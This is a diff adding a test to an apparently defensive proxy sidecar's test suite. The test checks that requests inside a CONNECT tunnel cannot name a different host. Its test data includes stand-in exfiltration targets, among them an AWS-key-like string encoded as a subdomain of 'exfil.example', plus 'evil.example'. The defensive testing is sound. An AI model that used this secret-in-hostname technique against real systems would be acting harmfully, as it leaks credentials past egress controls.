@@ -89,3 +89,27 @@ def test_matching_names_pass(sidecar, upstream):
     )
     assert status == 200
     assert upstream.requests_to("/allow/same")
+
+
+def test_an_absolute_form_target_inside_a_tunnel_must_name_the_tunnel(sidecar, upstream,
+                                                                      tcp_recorder):  # fmt: skip
+    """Inside a CONNECT tunnel mitmproxy would forward `GET http://other/` as written: the
+    authority there is routed on by the upstream (and carries whatever the agent puts in
+    it), so it must name the tunnel's destination, and it leaves in origin-form."""
+    target = tcp_recorder()
+    for authority in ("AKIAQX4RZT7NM2VBK5WJ.exfil.example", "evil.example"):
+        status, _, sock = connect(str(sidecar.info.proxy), f"{UPSTREAM_HOST}:{target.port}")
+        sock.sendall(f"GET http://{authority}/x HTTP/1.1\r\nHost: {UPSTREAM_HOST}:{target.port}"
+                     "\r\n\r\n".encode())  # fmt: skip
+        answer, _, _ = read_response(sock)
+        sock.close()
+        assert (status, answer) == (200, 421)
+    assert target.connections.items == []
+    # The same authority as the tunnel: forwarded, in origin-form.
+    status, _, sock = connect(str(sidecar.info.proxy), f"{UPSTREAM_HOST}:{upstream.http_port}")
+    here = f"{UPSTREAM_HOST}:{upstream.http_port}"
+    sock.sendall(f"GET http://{here}/allow/absform HTTP/1.1\r\nHost: {here}\r\n\r\n".encode())
+    answer, _, _ = read_response(sock)
+    sock.close()
+    assert answer == 200
+    assert upstream.requests_to("/allow/absform")  # the upstream saw the path only
